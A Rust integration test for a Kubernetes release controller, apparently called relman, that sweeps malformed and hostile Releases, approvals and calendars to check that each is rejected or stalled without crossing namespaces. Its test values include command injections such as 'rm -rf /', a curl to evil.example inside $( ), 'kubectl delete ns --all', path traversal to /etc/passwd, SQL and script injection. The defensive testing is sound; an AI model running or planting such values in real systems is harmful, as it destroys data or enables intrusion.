//! The bad-input sweep: malformed and hostile Releases, approvals and calendars, while relman
//! (the real binary, watching every namespace) serves good releases.
//!
//! Every case must be rejected at admission (sent as `kubectl apply` sends it: server-side
//! apply with strict field validation), or be accepted and then reported `Stalled=True` with a
//! message, before anything changed. Cases that try to reach out of their namespace must
//! change nothing outside it. Meanwhile a good release that started before the sweep, and
//! one created after it, must both succeed, and the relman process must never exit.

#![allow(clippy::expect_used, clippy::unwrap_used)]

mod support;

use std::fmt::Write as _;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::batch::v1::Job;
use kube::api::{Api, DynamicObject, ListParams, Patch, PatchParams, PostParams};
use kube::core::{ApiResource, GroupVersionKind};
use relman::api::{Release, ReleaseApproval};

use relman::api::labels::LABEL_RELEASE;
use relman_testenv::{ADMIN_USER, ControlPlane};
use serde_json::{Value, json};
use support::{ReleaseBuilder, deployment, image_of, smoke, wait_for, with};

/// How long an accepted hostile release may take to report `Stalled`.
const STALL_WAIT: Duration = Duration::from_secs(120);

fn resource(kind: &str) -> ApiResource {
    ApiResource::from_gvk(&GroupVersionKind::gvk("relman.io", "v1alpha1", kind))
}

/// A valid Release of `app` (Deployments `<app>-staging` and `<app>-prod`) that each case
/// changes in one place.
fn release_spec(app: &str) -> Value {
    valid_release(app).spec_json()
}

fn valid_release(app: &str) -> ReleaseBuilder {
    support::release(app, "2.0.0").owner("team-hostile")
}

fn approval_spec() -> Value {
    json!({"release": "first-2-0-0", "version": "2.0.0", "gate": "production",
        "decision": "Approved", "approver": ADMIN_USER})
}

fn calendar_spec() -> Value {
    json!({
        "timeZone": "Europe/Berlin",
        "windows": [{"name": "business-hours",
            "weekly": {"days": ["Mon", "Tue"], "start": "09:00", "end": "16:00"}}],
        "freezes": [{"name": "year-end", "start": "2026-12-20", "end": "2027-01-04"}]
    })
}

/// One malformed or hostile object.
struct Case {
    what: String,
    kind: &'static str,
    /// `metadata.name`; `None` for `hostile-<index>`.
    name: Option<String>,
    /// The whole object body after `apiVersion`/`kind`/`metadata` (usually `{"spec": ...}`).
    body: Value,
}

fn case(what: impl Into<String>, kind: &'static str, body: Value) -> Case {
    Case {
        what: what.into(),
        kind,
        name: None,
        body,
    }
}

fn release(what: impl Into<String>, spec: Value) -> Case {
    case(what, "Release", json!({ "spec": spec }))
}

fn approval(what: impl Into<String>, spec: Value) -> Case {
    case(what, "ReleaseApproval", json!({ "spec": spec }))
}

fn calendar(what: impl Into<String>, spec: Value) -> Case {
    case(what, "ReleaseCalendar", json!({ "spec": spec }))
}

/// A named edit of a valid Release spec.
type Edit = (String, Box<dyn Fn(Value) -> Value>);

/// Accepted by the schema; must stall. Each gets its own application `h<index>` so a case that
/// wrongly goes ahead cannot disturb another.
fn stalls(what: impl Into<String>, edit: impl Fn(Value) -> Value + 'static) -> Edit {
    (what.into(), Box::new(edit))
}

/// The cases the schema and CEL must reject.
#[rustfmt::skip]
fn rejected_cases(victim_ns: &str) -> Vec<Case> {
    let r = || release_spec("hostile");
    let huge = |n: usize| "x".repeat(n);
    let mut cases = vec![
        // Huge strings.
        release("application of 10 000 characters", with(r(), "/application", json!(huge(10_000)))),
        release("owner of 300 000 characters", with(r(), "/owner", json!(huge(300_000)))),
        release("notes summary of 200 000 characters", with(r(), "/notes/summary", json!(huge(200_000)))),
        release("rollback plan of 100 000 characters", with(r(), "/rollbackPlan", json!(huge(100_000)))),
        release("image of 5 000 characters", with(r(), "/images/0/image", json!(format!("web:{}", huge(5_000))))),
        release("deployment name of 300 characters", with(r(), "/stages/0/deployments/0", json!(huge(300)))),
        release("1 000 images", with(r(), "/images", json!((0..1000).map(|i| json!({"container": format!("c{i}"), "image": "x:1"})).collect::<Vec<_>>()))),
        release("500 stages", with(r(), "/stages", json!((0..500).map(|i| json!({"name": format!("s{i}"), "deployments": ["web"], "smokeTest": smoke(true)})).collect::<Vec<_>>()))),
        release("10 000 notable changes", with(r(), "/notes/notableChanges", json!(vec!["change"; 10_000]))),
        // Sizes: every item bounded, and an object etcd would refuse refused cleanly.
        release("a notable change of 501 characters", with(r(), "/notes/notableChanges", json!([huge(501)]))),
        release("a known issue of 501 characters", with(r(), "/notes/knownIssues", json!([huge(501)]))),
        release("an incident action item of 501 characters", with(r(), "/incident", json!({"actionItems": [huge(501)]}))),
        release("17 requirements", with(r(), "/requirements", json!((0..17).map(|i| json!({"name": format!("r{i}")})).collect::<Vec<_>>()))),
        release("a Release of 2 MB (a smoke-test environment value), over etcd's limit",
            with(r(), "/stages/0/smokeTest/template/spec/template/spec/containers/0/env",
                json!([{"name": "PAYLOAD", "value": huge(2_000_000)}]))),
        // Unicode.
        release("version in full-width digits", with(r(), "/version", json!("２.０.０"))),
        release("version with a right-to-left override", with(r(), "/version", json!("2.0.0\u{202e}1"))),
        release("application with a homoglyph (Cyrillic a)", with(r(), "/application", json!("\u{0430}pp"))),
        release("stage name with an umlaut", with(r(), "/stages/0/name", json!("stäging"))),
        release("deployment name with an emoji", with(r(), "/stages/0/deployments/0", json!("web-🚀"))),
        release("container name with a zero-width space", with(r(), "/images/0/container", json!("api\u{200b}"))),
        // Wrong types.
        release("version as a number", with(r(), "/version", json!(2))),
        release("stages as an object", with(r(), "/stages", json!({"staging": {"deployments": ["web"]}}))),
        release("images as a string", with(r(), "/images", json!("web:2.0.0"))),
        release("abort as a string", with(r(), "/abort", json!("yes please"))),
        release("approvers as a string", with(r(), "/stages/1/approval", json!({"approvers": "one"}))),
        release("negative approvers", with(r(), "/stages/1/approval", json!({"approvers": -1}))),
        release("smoke-test template as a string", with(r(), "/stages/0/smokeTest/template", json!("kubectl run"))),
        release("spec is null", Value::Null),
        release("type is not Patch/Minor/Major", with(r(), "/type", json!("Hotfix"))),
        // Injection-looking names.
        release("application with a shell command", with(r(), "/application", json!("web; rm -rf /"))),
        release("version with a command substitution", with(r(), "/version", json!("2.0.0$(curl evil.example)"))),
        release("deployment name with a path traversal", with(r(), "/stages/0/deployments/0", json!("../../etc/passwd"))),
        release("deployment name with SQL", with(r(), "/stages/0/deployments/0", json!("web'; DROP TABLE releases;--"))),
        release("stage name with HTML", with(r(), "/stages/0/name", json!("<script>alert(1)</script>"))),
        release("image with a newline", with(r(), "/images/0/image", json!("web:2.0.0\nimage: evil:1"))),
        release("calendar name with a slash", with(r(), "/calendar", json!("../other-tenant"))),
        release("rollout timeout of a billion hours", with(r(), "/stages/0/rolloutTimeout", json!("1e9h"))),
        release("negative smoke-test timeout", with(r(), "/stages/0/smokeTest/timeout", json!("-5m"))),
        release("smoke-test template without containers", with(r(), "/stages/0/smokeTest/template", json!({"spec": {"template": {"spec": {"restartPolicy": "Never"}}}}))),
        // Reaching into other namespaces.
        release("stage namespace with a path traversal", with(r(), "/stages/0/namespace", json!("../kube-system"))),
        release("stage namespace in capitals", with(r(), "/stages/0/namespace", json!("KUBE-SYSTEM"))),
        release("condition gate with a namespace field", with(r(), "/requirements", json!([{"name": "ci", "condition": {"apiVersion": "v1", "kind": "ConfigMap", "name": "ci", "namespace": victim_ns, "type": "Ready"}}]))),
        release("notify secret from another namespace", with(r(), "/notify", json!([{"name": "slack", "secretRef": {"name": "hook", "key": "url", "namespace": victim_ns}, "events": ["Succeeded"]}]))),
        release("unknown field asking for the host network", with(r(), "/hostNetwork", json!(true))),
        // Approvals.
        approval("approval of version latest", with(approval_spec(), "/version", json!("latest"))),
        approval("approval decision Maybe", with(approval_spec(), "/decision", json!("Maybe"))),
        approval("approval comment of 100 000 characters", with(approval_spec(), "/comment", json!(huge(100_000)))),
        approval("approval approver of 1 000 characters", with(approval_spec(), "/approver", json!(huge(1_000)))),
        approval("approval of a release named with a shell command", with(approval_spec(), "/release", json!("first; kubectl delete ns --all"))),
        approval("approval gate with unicode", with(approval_spec(), "/gate", json!("prodüction"))),
        approval("approval version as a number", with(approval_spec(), "/version", json!(2))),
        approval("approval of a release in another namespace", with(approval_spec(), "/namespace", json!(victim_ns))),
        approval("approval without a decision", with(approval_spec(), "/decision", Value::Null)),
        // Calendars.
        calendar("calendar time zone with a path traversal", with(calendar_spec(), "/timeZone", json!("../../etc/localtime"))),
        calendar("calendar weekday Caturday", with(calendar_spec(), "/windows/0/weekly/days", json!(["Caturday"]))),
        calendar("calendar window at 25:00", with(calendar_spec(), "/windows/0/weekly/start", json!("25:00"))),
        calendar("calendar rrule with an injected line", with(calendar_spec(), "/windows/0", json!({"name": "w", "rrule": "FREQ=DAILY\r\nEND:VCALENDAR", "duration": "1h"}))),
        calendar("calendar freeze of 10 000 characters", with(calendar_spec(), "/freezes/0/name", json!(huge(10_000)))),
        calendar("calendar with 10 000 windows", with(calendar_spec(), "/windows", json!((0..10_000).map(|i| json!({"name": format!("w{i}"), "weekly": {"days": ["Mon"], "start": "09:00", "end": "10:00"}})).collect::<Vec<_>>()))),
        calendar("calendar windows as a string", with(calendar_spec(), "/windows", json!("always"))),
    ];
    // Object names: too long, unicode, injection-looking.
    for (what, name) in [
        ("release named with 300 characters", "r".repeat(300)),
        ("release named in unicode", "wéb-2-0-0".to_owned()),
        ("release named with a shell command", "web;reboot".to_owned()),
        ("release named with a path traversal", "..".to_owned()),
    ] {
        let mut c = release(what, r());
        c.name = Some(name);
        cases.push(c);
    }
    cases
}

/// The cases the schema accepts but relman must stall on before anything changes; each
/// edits the Release of its own application. `victim_ns` holds another team's Deployment.
fn stalled_cases(victim_ns: &str) -> Vec<Edit> {
    let victim = victim_ns.to_owned();
    let pod = |spec: Value| json!({"spec": {"backoffLimit": 0, "template": {"spec": spec}}});
    vec![
        stalls("a Deployment that does not exist", |s| {
            with(s, "/stages/0/deployments", json!(["ghost"]))
        }),
        stalls("a stage namespace that does not exist", |s| {
            with(s, "/stages/0/namespace", json!("no-such-namespace"))
        }),
        stalls(
            "a stage in kube-system naming a Deployment that is not there",
            |s| with(s, "/stages/0/namespace", json!("kube-system")),
        ),
        stalls("a Job template whose restartPolicy is Always", move |s| {
            with(
                s,
                "/stages/0/smokeTest/template",
                pod(json!({"restartPolicy": "Always",
                "containers": [{"name": "smoke", "image": "smoke:1"}]})),
            )
        }),
        stalls("a Job template whose container name is invalid", move |s| {
            with(
                s,
                "/stages/0/smokeTest/template",
                pod(json!({"restartPolicy": "Never",
                "containers": [{"name": "Smoke_Test; rm -rf /", "image": "smoke:1"}]})),
            )
        }),
        stalls("a Job template with an empty image", move |s| {
            with(
                s,
                "/stages/0/smokeTest/template",
                pod(json!({"restartPolicy": "Never",
                "containers": [{"name": "smoke", "image": ""}]})),
            )
        }),
        stalls(
            "a Job template with a hostPath volume of a relative path",
            move |s| {
                with(
                    s,
                    "/stages/0/smokeTest/template",
                    pod(json!({"restartPolicy": "Never",
                "volumes": [{"name": "root", "hostPath": {"path": "../../"}}],
                "containers": [{"name": "smoke", "image": "smoke:1",
                    "volumeMounts": [{"name": "root", "mountPath": "/host"}]}]})),
                )
            },
        ),
        stalls(
            "a backup Job template with a negative backoffLimit",
            move |s| {
                with(
                    s,
                    "/stages/0/backup",
                    json!({"template": {"spec": {"backoffLimit": -1,
                "template": {"spec": {"restartPolicy": "Never",
                    "containers": [{"name": "backup", "image": "backup:1"}]}}}}}),
                )
            },
        ),
        stalls(
            "a smoke Job template whose pod uses another namespace's service account",
            move |s| {
                with(
                    s,
                    "/stages/0/smokeTest/template",
                    pod(json!({"restartPolicy": "Never",
                "serviceAccountName": "kube-system:default",
                "containers": [{"name": "smoke", "image": "smoke:1"}]})),
                )
            },
        ),
        stalls(
            "an image for a container the Deployment does not have",
            |s| with(s, "/images/0/container", json!("sidecar")),
        ),
        stalls(
            "a Job template asking for the node's PID namespace with an invalid name",
            move |s| {
                with(
                    s,
                    "/stages/0/smokeTest/template",
                    pod(json!({"restartPolicy": "Never",
                "hostPID": true, "nodeName": "../kwok-node-0",
                "containers": [{"name": "smoke", "image": "smoke:1"}]})),
                )
            },
        ),
        stalls(
            format!("a stage in namespace {victim} naming a Deployment missing there"),
            move |s| {
                let s = with(s, "/stages/0/namespace", json!(victim.clone()));
                with(s, "/stages/0/deployments", json!(["not-the-victim"]))
            },
        ),
    ]
}

/// A `relman` process watching every namespace, killed when dropped.
struct Relman(Child);

impl Relman {
    fn spawn(cp: &ControlPlane, log: &Path) -> Self {
        let log = std::fs::File::create(log).expect("create the controller log");
        let child = Command::new(env!("CARGO_BIN_EXE_relman"))
            .env("KUBECONFIG", cp.kubeconfig_path())
            .env("RELMAN_LEADER_ELECTION", "false")
            .env("RELMAN_HTTP_ADDR", "127.0.0.1:0")
            .env("RELMAN_PROBE_ADDR", "127.0.0.1:0")
            .env("POD_NAME", "relman-hostile")
            .stdin(Stdio::null())
            .stdout(log.try_clone().expect("clone the log handle"))
            .stderr(log)
            .spawn()
            .expect("start the relman binary");
        Self(child)
    }

    fn ensure_running(&mut self) -> anyhow::Result<()> {
        match self.0.try_wait()? {
            None => Ok(()),
            Some(status) => anyhow::bail!("relman exited during the sweep: {status}"),
        }
    }
}

impl Drop for Relman {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Creates `app-staging` and `app-prod` running `app:1.0.0` in `ns`.
async fn deployments(client: &kube::Client, ns: &str, apps: &[String]) -> anyhow::Result<()> {
    let api: Api<Deployment> = Api::namespaced(client.clone(), ns);
    for app in apps {
        for suffix in ["staging", "prod"] {
            let d = deployment(&format!("{app}-{suffix}"), &format!("{app}:1.0.0"), 1);
            api.create(&PostParams::default(), &d).await?;
        }
    }
    Ok(())
}

/// Sends `case` the way `kubectl apply --server-side` does; `Err` is the API server's answer.
async fn submit(client: &kube::Client, ns: &str, index: usize, case: &Case) -> Result<(), String> {
    let api = dynamic_api(client, ns, case.kind);
    let name = case
        .name
        .clone()
        .unwrap_or_else(|| format!("{ns}-hostile-{index}"));
    let mut body = json!({
        "apiVersion": "relman.io/v1alpha1",
        "kind": case.kind,
        "metadata": {"name": name},
    });
    if let (Some(body), Some(extra)) = (body.as_object_mut(), case.body.as_object()) {
        body.extend(extra.clone());
    }
    let params = PatchParams::apply("hostile-sweep").validation_strict();
    api.patch(&name, &params, &Patch::Apply(&body))
        .await
        .map(|_| ())
        .map_err(|e| e.to_string())
}

/// Waits until `name` (a Release or a ReleaseCalendar) reports `Stalled=True`; returns its
/// reason and message, or what it shows instead.
async fn wait_stalled(api: &Api<DynamicObject>, name: &str) -> Result<(String, String), String> {
    let deadline = Instant::now() + STALL_WAIT;
    loop {
        let object = api.get(name).await.map_err(|e| e.to_string())?;
        let conditions = object.data["status"]["conditions"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        let text = |c: &Value, key: &str| c[key].as_str().unwrap_or_default().to_owned();
        if let Some(c) = conditions
            .iter()
            .find(|c| text(c, "type") == "Stalled" && text(c, "status") == "True")
        {
            return Ok((text(c, "reason"), text(c, "message")));
        }
        if Instant::now() >= deadline {
            return Err(format!("status: {}", object.data["status"]));
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// The API of `kind` objects in `ns` (calendars are cluster-scoped).
fn dynamic_api(client: &kube::Client, ns: &str, kind: &str) -> Api<DynamicObject> {
    let ar = resource(kind);
    if kind == "ReleaseCalendar" {
        Api::all_with(client.clone(), &ar)
    } else {
        Api::namespaced_with(client.clone(), ns, &ar)
    }
}

/// Waits until `name` is `Ready=True`.
async fn wait_ready(releases: &Api<Release>, name: &str) -> anyhow::Result<()> {
    wait_for(
        Duration::from_secs(180),
        Duration::from_millis(500),
        || async {
            let status = releases.get(name).await?.status.unwrap_or_default();
            let ready = status
                .conditions
                .iter()
                .any(|c| c.type_ == "Ready" && c.status == "True");
            Ok(if ready {
                Ok(())
            } else {
                Err(format!("{name} did not become Ready: {status:#?}"))
            })
        },
    )
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_input_is_rejected_or_stalls_and_good_releases_go_on() -> anyhow::Result<()> {
    let began = Instant::now();
    let cp = ControlPlane::shared().await?;
    let client = cp.client().await?;
    let ns = cp.test_namespace("hostile").await?.name().to_owned();
    let victim_ns = cp.test_namespace("victim").await?.name().to_owned();
    let releases: Api<Release> = Api::namespaced(client.clone(), &ns);

    let stalled = stalled_cases(&victim_ns);
    let mut apps: Vec<String> = vec!["first".into(), "last".into()];
    apps.extend((0..stalled.len()).map(|i| format!("h{i}")));
    deployments(&client, &ns, &apps).await?;
    deployments(&client, &victim_ns, &["victim".to_owned()]).await?;

    let log = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-relman.log");
    let mut relman = Relman::spawn(cp, &log);

    // A good release with a production sign-off goes on during the sweep.
    let first = valid_release("first").production_approval().build();
    releases.create(&PostParams::default(), &first).await?;

    let mut report = String::new();
    let mut failures = Vec::new();

    // Rejected at admission.
    let rejected = rejected_cases(&victim_ns);
    for (i, case) in rejected.iter().enumerate() {
        match submit(&client, &ns, i, case).await {
            Err(message) => {
                let short: String = message.chars().take(160).collect();
                let _ = writeln!(report, "  rejected  {}: {short}", case.what);
            }
            Ok(()) => failures.push(format!("{} ({}): accepted", case.what, case.kind)),
        }
    }

    // A calendar whose time zone looks right but does not exist stalls the calendar.
    let mut mars = calendar(
        "calendar time zone on Mars",
        with(calendar_spec(), "/timeZone", json!("Mars/Olympus_Mons")),
    );
    mars.name = Some(format!("{ns}-mars"));

    // Accepted, must stall. Sent like the others, then awaited together.
    let mut accepted = Vec::new();
    match submit(&client, &ns, 0, &mars).await {
        Ok(()) => accepted.push(mars),
        Err(message) => {
            let _ = writeln!(report, "  rejected  {}: {message}", mars.what);
        }
    }
    for (i, (what, edit)) in stalled.iter().enumerate() {
        let app = format!("h{i}");
        let c = Case {
            what: what.clone(),
            kind: "Release",
            name: Some(format!("{app}-2-0-0")),
            body: json!({"spec": edit(release_spec(&app))}),
        };
        match submit(&client, &ns, i, &c).await {
            Ok(()) => accepted.push(c),
            Err(message) => failures.push(format!(
                "{what}: expected to pass admission and stall, was rejected: {message}"
            )),
        }
    }
    for c in &accepted {
        let name = c.name.clone().unwrap_or_default();
        match wait_stalled(&dynamic_api(&client, &ns, c.kind), &name).await {
            Ok((reason, message)) if message.len() >= 10 => {
                let _ = writeln!(report, "  stalled   {}: {reason}: {message}", c.what);
            }
            Ok((reason, message)) => failures.push(format!(
                "{}: Stalled ({reason}) without a clear message: {message:?}",
                c.what
            )),
            Err(shown) => failures.push(format!("{}: never Stalled: {shown}", c.what)),
        }
        relman.ensure_running()?;
    }

    // Nothing a hostile release named changed: every Deployment but the good ones' is on its
    // first revision, the victim's too, and no Job of ours runs outside our namespace.
    let deployments_api: Api<Deployment> = Api::namespaced(client.clone(), &ns);
    for d in deployments_api.list(&ListParams::default()).await? {
        let name = d.metadata.name.clone().unwrap_or_default();
        if !name.starts_with("first-")
            && !name.starts_with("last-")
            && d.metadata.generation != Some(1)
        {
            failures.push(format!(
                "Deployment {name} was changed by a hostile release"
            ));
        }
    }
    let victim: Api<Deployment> = Api::namespaced(client.clone(), &victim_ns);
    for d in victim.list(&ListParams::default()).await? {
        if d.metadata.generation != Some(1) {
            failures.push(format!(
                "Deployment {victim_ns}/{} of another namespace was changed",
                d.metadata.name.unwrap_or_default()
            ));
        }
    }
    let all_jobs: Api<Job> = Api::all(client.clone());
    for job in all_jobs
        .list(&ListParams::default().labels(LABEL_RELEASE))
        .await?
    {
        let job_ns = job.metadata.namespace.clone().unwrap_or_default();
        let release_ns = job
            .metadata
            .labels
            .as_ref()
            .and_then(|l| l.get("relman.io/release-namespace"))
            .cloned()
            .unwrap_or_default();
        if release_ns == ns && job_ns != ns {
            failures.push(format!(
                "Job {job_ns}/{} of a release in {ns} runs outside it",
                job.metadata.name.unwrap_or_default()
            ));
        }
    }

    // The good releases: the first is signed off now and finishes; one created after the
    // sweep finishes too.
    let mut spec = approval_spec();
    spec["releaseUID"] = json!(releases.get("first-2-0-0").await?.metadata.uid);
    let approval: ReleaseApproval = serde_json::from_value(json!({
        "apiVersion": "relman.io/v1alpha1", "kind": "ReleaseApproval",
        "metadata": {"name": "first-2-0-0-production"},
        "spec": spec
    }))?;
    Api::<ReleaseApproval>::namespaced(client.clone(), &ns)
        .create(&PostParams::default(), &approval)
        .await?;
    releases
        .create(&PostParams::default(), &valid_release("last").build())
        .await?;
    wait_ready(&releases, "first-2-0-0").await?;
    wait_ready(&releases, "last-2-0-0").await?;
    relman.ensure_running()?;

    let total = rejected.len() + 1 + stalled.len();
    println!(
        "hostile input sweep: {total} cases ({} rejected at admission, {} stalled), {} failures, \
         good releases before and after: Ready; {:?}\n{report}",
        report.matches("  rejected  ").count(),
        report.matches("  stalled   ").count(),
        failures.len(),
        began.elapsed()
    );
    assert!(total >= 50, "the sweep has only {total} cases");
    assert!(
        failures.is_empty(),
        "{} hostile cases were not handled:\n{}\n(relman log: {})",
        failures.len(),
        failures.join("\n"),
        log.display()
    );
    Ok(())
}

/// A Release may name a stage namespace; one that names another team's namespace and its
/// existing Deployment must not get to change it: the release is `Stalled`
/// (`NamespaceNotPermitted`) before anything changed, until that namespace's owners accept
/// Releases of the first namespace with the `relman.io/accept-releases-from` annotation; then
/// it goes on by itself.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_release_cannot_drive_another_namespaces_deployment() -> anyhow::Result<()> {
    let cp = ControlPlane::shared().await?;
    let client = cp.client().await?;
    let ns = cp.test_namespace("intruder").await?.name().to_owned();
    let victim_ns = cp.test_namespace("victim").await?.name().to_owned();
    deployments(&client, &ns, &["intruder".to_owned()]).await?;
    deployments(&client, &victim_ns, &["victim".to_owned()]).await?;
    let log = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-intruder-relman.log");
    let mut relman = Relman::spawn(cp, &log);

    let spec = with(
        release_spec("intruder"),
        "/stages/0/namespace",
        json!(victim_ns),
    );
    let spec = with(spec, "/stages/0/deployments", json!(["victim-staging"]));
    let case = Case {
        what: "a stage naming another namespace's Deployment".into(),
        kind: "Release",
        name: Some("intruder-2-0-0".into()),
        body: json!({ "spec": spec }),
    };
    submit(&client, &ns, 0, &case)
        .await
        .map_err(|e| anyhow::anyhow!("the API server refused the Release: {e}"))?;
    let (reason, message) = wait_stalled(&dynamic_api(&client, &ns, "Release"), "intruder-2-0-0")
        .await
        .map_err(|shown| anyhow::anyhow!("not stalled: {shown}"))?;
    relman.ensure_running()?;
    let victims: Api<Deployment> = Api::namespaced(client.clone(), &victim_ns);
    let victim = victims.get("victim-staging").await?;
    println!(
        "{}: stalled: {reason}: {message}; victim-staging runs {:?}",
        case.what,
        image_of(&victim)
    );
    assert_eq!(
        victim.metadata.generation,
        Some(1),
        "a Release in {ns} changed Deployment {victim_ns}/victim-staging (now {:?})",
        image_of(&victim)
    );
    assert_eq!(reason, "NamespaceNotPermitted", "{message}");
    for part in [
        "spec.stages[0].namespace".to_owned(),
        format!(
            "create a ReleasePolicy in {victim_ns} with spec.acceptReleasesFrom.namespaces: [{ns}]"
        ),
    ] {
        assert!(message.contains(&part), "{part:?} not in {message:?}");
    }
    let jobs: Api<Job> = Api::namespaced(client.clone(), &victim_ns);
    let created = jobs
        .list(&ListParams::default().labels(LABEL_RELEASE))
        .await?;
    assert!(
        created.items.is_empty(),
        "relman created Jobs in {victim_ns} for a Release in {ns}"
    );

    // The victim's owners consent (among other namespaces): the release goes on by itself and
    // rolls the Deployment out.
    support::accept_releases_from(&client, &victim_ns, Some(&format!("someone-else, {ns}")))
        .await?;
    let rolled_out = |d: Option<&Deployment>| d.is_some_and(|d| image_of(d) == "intruder:2.0.0");
    tokio::time::timeout(
        STALL_WAIT,
        kube::runtime::wait::await_condition(victims.clone(), "victim-staging", rolled_out),
    )
    .await
    .map_err(|_| {
        anyhow::anyhow!("the release did not go on after {victim_ns} accepted Releases of {ns}")
    })??;
    relman.ensure_running()?;
    Ok(())
}

#[tokio::test]
async fn a_flood_of_sign_offs_is_capped_in_the_status_and_the_release_goes_on() -> anyhow::Result<()>
{
    let env = support::Env::new("hostile-flood").await?;
    let release = support::web("2.0.0").production_approval().build();
    let name = release.metadata.name.clone().unwrap();
    env.create(&release).await?;
    let uid = env.releases.get(&name).await?.metadata.uid.clone().unwrap();
    // 120 sign-offs of the production gate, all real (the identity policy admits them).
    let approvals: Api<ReleaseApproval> = Api::namespaced(env.client.clone(), &env.ns);
    for i in 0..120 {
        let mut approval = support::approval(
            &format!("{name}-{i:03}"),
            &name,
            "2.0.0",
            "production",
            ADMIN_USER,
        );
        approval.spec.release_uid = Some(uid.clone());
        approvals.create(&PostParams::default(), &approval).await?;
    }
    let _controller = env.controller();
    let status = env.wait_condition(&name, "Ready", "True").await?;
    assert_eq!(status.approvals.len(), 100, "the newest 100 are listed");
    assert_eq!(
        status.approvals_not_listed,
        Some(20),
        "and the rest counted"
    );
    let release = env.releases.get(&name).await?;
    let bytes = serde_json::to_vec(&release.status)?.len();
    assert!(bytes < 64 * 1024, "the status stays small: {bytes} bytes");
    Ok(())
}
